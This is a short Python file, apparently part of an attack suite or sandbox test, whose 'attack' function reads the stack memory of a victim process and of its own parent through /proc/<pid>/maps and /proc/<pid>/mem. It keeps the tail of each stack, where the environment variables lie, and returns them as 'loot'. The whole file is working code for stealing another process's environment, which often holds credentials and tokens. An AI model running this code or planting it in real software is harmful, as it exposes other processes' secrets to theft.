"""Read the stack of a process of the outside, at whose end its environment stands."""

import contextlib
import os


def attack(target):
    loot = []
    for pid in [target["victim"], os.getppid()]:
        with contextlib.suppress(OSError):
            loot.append(stack(pid)[-4000:].decode(errors="replace"))
    return loot


def stack(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        (line,) = (line for line in maps if "[stack]" in line)
        start, end = (int(word, 16) for word in line.split()[0].split("-"))
        memory.seek(start)
        return memory.read(end - start)
